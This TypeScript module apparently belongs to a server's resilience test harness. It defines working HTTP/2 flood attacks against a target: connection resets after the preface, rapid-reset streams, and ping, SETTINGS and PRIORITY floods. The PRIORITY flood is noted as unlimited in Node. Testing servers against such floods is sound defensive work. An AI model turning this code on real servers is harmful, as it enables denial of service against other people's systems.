import { APPLY, applyRequest } from '../../attack/requests.js'
import {
  callHeaders,
  END_STREAM,
  frameOf,
  INITIAL_WINDOW_SIZE,
  openStream,
  ping,
  RawPeer,
  reset,
  settings,
  Type,
} from '../../support/http2.js'
import { frame } from '../../support/raw-call.js'
import type { Attack } from './target.js'

/** Attacks with HTTP/2 frames that are legal or nearly legal, and far too many. */

const repeat = (count: number, make: (at: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)))
const streamAt = (at: number) => 2 * at + 1

/** Sends batches of frames. Opens a new connection whenever the server closes one. */
const flood = (what: string, name: string, size: number, batchOf: (at: number) => Buffer): Attack => ({
  what,
  async run(target) {
    while (!target.isOver) {
      using peer = await RawPeer.greet(target.address)
      target.did('connections')
      for (let at = 0; !target.isOver && !peer.isClosed && !peer.socket.destroyed; at++) {
        // A send on a closed or unread connection may never resolve. Do not wait for it after the end of the attack.
        await Promise.race([peer.send(batchOf(at)), target.over])
        target.did(name, size)
        // The replies are not used; drop them to save memory.
        peer.frames.length = 0
        await new Promise((resolve) => setImmediate(resolve))
      }
    }
  },
})

export const FRAME_ATTACKS: Record<string, Attack> = {
  connections: {
    what: 'connections that are reset after the HTTP/2 preface, 50 at a time',
    async run(target) {
      await target.keep(50, async () => {
        using peer = await RawPeer.greet(target.address)
        await Promise.race([peer.frame(({ type }) => type === Type.SETTINGS), peer.closed])
        peer.socket.resetAndDestroy()
        return 'connections'
      })
    },
  },
  resets: flood('calls that are reset as soon as they have begun', 'calls', 100, (at) =>
    repeat(100, (i) => {
      const stream = streamAt(100 * at + i)
      const body = frameOf(Type.DATA, END_STREAM, stream, frame(applyRequest('busy', 1)))
      return Buffer.concat([openStream(stream, callHeaders(APPLY)), body, reset(stream)])
    }),
  ),
  pings: flood('pings', 'pings', 1_000, () => repeat(1_000, ping)),
  settings: flood('settings', 'settings', 1_000, () =>
    repeat(1_000, () => settings({ [INITIAL_WINDOW_SIZE]: 65_535 })),
  ),
  updates: flood('PRIORITY frames, which Node does not limit', 'updates', 1_000, () =>
    repeat(1_000, () => frameOf(Type.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 9, 16]))),
  ),
}
